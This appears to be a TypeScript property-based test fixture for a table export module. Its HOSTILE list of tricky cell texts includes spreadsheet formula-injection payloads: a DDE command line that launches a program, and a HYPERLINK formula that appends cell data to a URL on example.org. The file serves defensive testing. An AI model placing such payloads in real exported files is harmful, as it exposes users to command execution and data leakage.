import fc from 'fast-check';

import type {Cell} from '../../src/files/table.js';

/** Texts that a program on their way may take for something else. */
export const HOSTILE: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://example.org/?"&A1;"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-12,50',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u202E=1+1',
  '\u0001=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  '"=1+1"',
  '";=1+1;"',
  '","=1+1',
  'a"b""c',
  'a;b,c\td',
  'a\nb',
  'a\rb',
  'a\r\n=1+1',
  '\u0001\u0008\u000B\u001F\u007F\u0085',
  '_x000D_',
  '_x005F_x000D_',
  '_x000D\u0001',
  '__x000d_x000D_',
  '\uFFFE\uFFFF',
  'half \uD83D of one',
  '😀 عربى 中文 é e\u0301',
  '\u202Eabc\u202C',
  '<b>&amp;</b>]]><!--',
  '  between  ',
  '\u2028\u2029',
  '00123',
  '1E5',
  '2026-11-22',
  '1-2',
  'TRUE',
  '#REF!',
  'NaN',
  '%',
  '',
];

const DIGITS = {EUR: 2, JPY: 0, KWD: 3} as const;
type Currency = keyof typeof DIGITS;

/** A row of known kinds: what each table of the tests holds. */
export interface HostileRow {
  text: string;
  other: string;
  amount: number;
  currency: Currency;
  date: string;
  number: number;
  decimal: string;
}

export const HOSTILE_HEADER = ['Text', '=Other', 'Amount', 'Currency', 'Date', 'Number', 'Decimal'];

/** The cells of a row. */
export function cellsOf(row: HostileRow): Cell[] {
  const {text, other, amount, currency, date, number, decimal} = row;
  return [text, other, {money: {amount, currency}}, currency, {date}, {number}, {decimal}];
}

/** The amount of a row in major units, by whole numbers of any size. */
export function exactAmount({amount, currency}: HostileRow): string {
  const digits = DIGITS[currency];
  const size = amount < 0 ? -BigInt(amount) : BigInt(amount);
  const unit = 10n ** BigInt(digits);
  const fraction = digits === 0 ? '' : `.${String(size % unit).padStart(digits, '0')}`;
  return `${amount < 0 ? '-' : ''}${size / unit}${fraction}`;
}

const anyText = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.array(fc.constantFrom(...'=+-@＝ \t\r\n\0;,"\'_x000D&<1aé'), {maxLength: 12}).map(join),
  fc.string({unit: 'binary', maxLength: 12}),
  fc.array(fc.constantFrom(...HOSTILE), {maxLength: 3}).map(join),
);

function join(parts: readonly string[]): string {
  return parts.join('');
}

const anyDate = fc
  .date({
    min: new Date('1800-01-01T00:00:00Z'),
    max: new Date('9999-12-31T00:00:00Z'),
    noInvalidDate: true,
  })
  .map((date) => date.toISOString().slice(0, 10));

const anyAmount = fc.oneof(fc.integer({min: -100_000, max: 100_000}), fc.maxSafeInteger());

/** Next to nothing a number has hardly a digit left, and programs take it for zero. */
const anyNumber = fc.oneof(
  fc.integer(),
  fc
    .double({noNaN: true, noDefaultInfinity: true})
    .map((number) => (Math.abs(number) < 1e-300 ? 0 : number)),
);

/** With more digits than a number of the machine has, and with zeros at its end. */
const anyDecimal = fc
  .tuple(fc.boolean(), fc.bigInt({min: 0n, max: 10n ** 18n}), fc.integer({min: 0, max: 18}))
  .map(([isNegative, digits, scale]) => {
    const figures = String(digits).padStart(scale + 1, '0');
    const whole = figures.slice(0, figures.length - scale);
    const fraction = scale === 0 ? '' : `.${figures.slice(-scale)}`;
    return `${isNegative ? '-' : ''}${whole}${fraction}`;
  });

/** Any row. */
export const anyRow: fc.Arbitrary<HostileRow> = fc.record({
  text: anyText,
  other: anyText,
  amount: anyAmount,
  currency: fc.constantFrom('EUR', 'JPY', 'KWD'),
  date: anyDate,
  number: anyNumber,
  decimal: anyDecimal,
});

/** The rows of any table. */
export const anyRows = fc.array(anyRow, {maxLength: 8});
